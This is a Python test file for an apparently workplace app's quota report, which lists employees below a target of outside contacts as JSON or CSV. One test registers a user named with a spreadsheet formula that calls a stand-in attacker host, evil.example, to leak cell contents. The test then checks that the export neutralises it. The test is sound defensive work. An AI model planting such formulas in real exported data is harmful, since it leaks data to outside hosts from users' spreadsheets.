"""The quota rule ("at least N outside users by date X, else …"): who is below, with their count,
department and shortfall, as JSON and CSV; a preview before the date, final after it."""

from __future__ import annotations

import asyncio
import csv
import datetime as dt
import io
import time

from fastapi import FastAPI

from lakeside.domain.campaigns import quota_shortfalls
from tests.campaign_support import company, create_campaign, forget_activity, friends, outsiders, settle, spec
from tests.conftest import Person, register


def test_shortfalls_largest_first() -> None:
    lines = quota_shortfalls({1: 100, 2: 40, 3: 99, 4: 0}, {1: 7, 2: 7, 3: None, 4: 8}, 100)
    assert [(line.user_id, line.count, line.shortfall, line.team_id) for line in lines] == [
        (4, 0, 100, 8),
        (2, 40, 60, 7),
        (3, 99, 1, None),
    ]


async def test_quota_report_json_csv_preview_and_final(app: FastAPI, people: dict[str, Person]) -> None:
    owner, zhang, li = people["admin"], people["zhangsan"], people["lisi"]
    org_id = await company(owner, [zhang, li])
    response = await owner.post(f"/api/v1/orgs/{org_id}/departments", json={"name": "市场部"})
    assert response.status_code == 201, response.text
    department_id = response.json()["id"]
    response = await owner.put(
        f"/api/v1/orgs/{org_id}/members/{zhang.id}/departments", json={"department_ids": [department_id]}
    )
    assert response.status_code == 200, response.text
    o = await outsiders(owner, 3)
    await friends(zhang, o[0])
    await friends(li, o[1], o[2])
    await forget_activity(app, o[2])  # the quota counts outside users, active or not
    moment = (dt.datetime.now(dt.UTC) + dt.timedelta(seconds=2)).isoformat(timespec="milliseconds")
    document = spec(quota={"min_outside_users": 2, "by": moment, "consequence": "视为放弃年底红包"})
    campaign_id = await create_campaign(owner, org_id, document)
    await settle(app)

    preview = (await owner.get(f"/api/v1/campaigns/{campaign_id}/quota")).json()
    assert preview["final"] is False and preview["min_outside_users"] == 2
    below = {line["username"]: line for line in preview["below"]}
    assert set(below) == {"admin", "zhangsan"}
    assert below["zhangsan"]["count"] == 1 and below["zhangsan"]["shortfall"] == 1
    assert below["zhangsan"]["department"] == "市场部"
    assert preview["consequence"] == "视为放弃年底红包"

    response = await owner.get(f"/api/v1/campaigns/{campaign_id}/quota", params={"format": "csv"})
    assert response.status_code == 200 and response.headers["content-type"].startswith("text/csv")
    rows = list(csv.reader(io.StringIO(response.text.lstrip("\ufeff"))))
    assert rows[0] == ["user_id", "username", "name", "department", "count", "required", "shortfall"]
    assert [r[1] for r in rows[1:]] == ["admin", "zhangsan"]

    # Members may not read it.
    response = await zhang.get(f"/api/v1/campaigns/{campaign_id}/quota")
    assert response.status_code == 403

    deadline = time.monotonic() + 30
    while True:
        await settle(app)
        report = (await owner.get(f"/api/v1/campaigns/{campaign_id}/quota")).json()
        if report["final"]:
            break
        assert time.monotonic() < deadline, "the quota date passed without a quota snapshot"
        await asyncio.sleep(0.2)
    # Friends made after the quota date do not rescue anyone.
    await friends(zhang, o[2])
    await settle(app)
    report = (await owner.get(f"/api/v1/campaigns/{campaign_id}/quota")).json()
    assert {line["username"] for line in report["below"]} == {"admin", "zhangsan"}
    assert report["compliant"] == 1 and report["participants"] == 3


async def test_the_csv_export_defuses_formulas(app: FastAPI, people: dict[str, Person]) -> None:
    """Names and departments are anyone's text: a cell that a spreadsheet would run as a formula
    is exported with an apostrophe in front (the rule of the audit export, lakeside.domain.spreadsheet)."""
    formula = '=HYPERLINK("http://evil.example/?"&A1,"点我")'
    owner, zhang = people["admin"], await register(people["admin"].http, "formula", formula)
    org_id = await company(owner, [zhang])
    response = await owner.post(f"/api/v1/orgs/{org_id}/departments", json={"name": "+1-1 市场部"})
    assert response.status_code == 201, response.text
    response = await owner.put(
        f"/api/v1/orgs/{org_id}/members/{zhang.id}/departments",
        json={"department_ids": [response.json()["id"]]},
    )
    assert response.status_code == 200, response.text
    later = (dt.datetime.now(dt.UTC) + dt.timedelta(days=1)).isoformat(timespec="milliseconds")
    campaign_id = await create_campaign(owner, org_id, spec(quota={"min_outside_users": 1, "by": later}))
    await settle(app)
    response = await owner.get(f"/api/v1/campaigns/{campaign_id}/quota", params={"format": "csv"})
    assert response.status_code == 200, response.text
    rows = list(csv.reader(io.StringIO(response.text.lstrip("\ufeff"))))
    line = next(r for r in rows[1:] if r[1] == "formula")
    assert line[2] == "'" + formula and line[3] == "'+1-1 市场部"
    assert all(not cell.startswith(("=", "+", "-", "@")) for r in rows for cell in r)
